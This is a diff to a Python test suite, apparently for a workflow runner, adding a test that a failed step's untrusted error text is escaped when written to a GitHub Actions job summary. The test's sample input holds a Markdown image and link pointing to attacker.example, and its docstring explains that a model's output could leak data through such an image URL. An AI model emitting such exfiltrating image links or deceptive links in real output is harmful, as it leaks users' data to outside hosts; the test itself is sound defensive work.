@@ -5,6 +5,7 @@ diff reads as a diff, not as one flattened line. Checked with a CommonMark parse
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 from typing import Any
 
@@ -64,3 +65,33 @@ def test_nothing_in_the_text_ends_the_block_or_the_list_early() -> None:
     inline = [t.content for t in tokens if t.type == "inline"]
     assert "`wf::a`: first line \\| with a pipe" in inline
     assert "`wf::b`: plain" in inline
+
+
+def _item_shown(tokens: list[Any]) -> list[tuple[str, str]]:
+    """What the one list item shows, token by token: (type, text)."""
+    start = next(i for i, t in enumerate(tokens) if t.type == "list_item_open")
+    item = next(t for t in tokens[start:] if t.type == "inline")
+    return [(c.type, c.content) for c in item.children or []]
+
+
+def test_an_errors_first_line_shows_no_link_image_or_markup_of_its_own(
+        tmp_path: Path) -> None:
+    """A failed step's error is untrusted (its command's stderr, a model's reply): its first
+    line went into the job summary as Markdown, so `![](https://...)` put an image in the
+    summary (fetched when viewed: a model could put what it read into that URL),
+    `[Re-run](https://...)` a link, `**...**` bold and `&lt;` an entity. It is shown as it
+    is."""
+    first = ("![x](https://attacker.example/p.png?d=1) [Re-run here](https://attacker.example)"
+             " **bold** _em_ `code` ~~gone~~ &lt;b&gt; <img src=x> back\\slash")
+    (tmp_path / "wf.yaml").write_text(
+        "version: 1\nname: md\nsteps:\n  bad:\n"
+        "    run: [python3, -c, 'import sys; sys.exit(sys.argv[1])', " + json.dumps(first) + "]\n")
+    summary = tmp_path / "summary.md"
+    out = plait("run", "wf.yaml", "--no-record", cwd=tmp_path,
+                env={"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(summary)})
+    assert out.returncode == 1, out.stdout + out.stderr
+    shown = _item_shown(_tokens(summary.read_text(encoding="utf-8")))
+    assert shown[0] == ("code_inline", "bad"), shown  # the label, plait's own markup
+    assert {kind for kind, _ in shown[1:]} == {"text"}, shown
+    text = "".join(text for _, text in shown[1:])
+    assert text.startswith(": command ") and text.endswith(f": {first}"), text
